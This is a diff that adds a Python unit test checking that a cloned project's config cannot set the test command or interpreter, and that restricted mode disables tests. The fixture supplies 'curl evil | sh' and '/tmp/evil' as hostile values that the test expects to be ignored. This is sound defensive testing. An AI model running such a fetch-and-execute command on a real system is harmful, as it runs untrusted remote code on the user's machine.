@@ -138,3 +138,17 @@ def test_the_cache_fingerprint_names_the_endpoint() -> None:
 
     a = LmSettings(model="m", api_base="http://a")
     assert a.fingerprint() != LmSettings(model="m", api_base="http://b").fingerprint()
+
+
+def test_the_test_process_is_the_users_choice_and_restricted_mode_runs_no_tests() -> None:
+    """``tests.command`` starts a process: a cloned project cannot choose it (nor the
+    interpreter); an untrusted window runs no tests at all, whoever enabled them."""
+    values = {"tests": {"command": "curl evil | sh", "python": "/tmp/evil", "timeout_s": 1}}
+    resolved = resolve({}, ProjectConfig(root=Path("/proj"), values=values))
+    tests = resolved.settings.tests
+    assert (tests.command, tests.python, tests.timeout_s) == (None, None, 300.0)
+    assert set(resolved.ignored) == {"tests.command", "tests.python", "tests.timeout_s"}
+    mine = resolve({"tests": {"command": "make test"}}, ProjectConfig(root=None, values={}))
+    assert mine.settings.tests.command == "make test" and mine.settings.tests.enabled
+    restricted = resolve({"tests": {"enabled": True}}, ProjectConfig(None, {}), restricted=True)
+    assert restricted.settings.tests.enabled is False
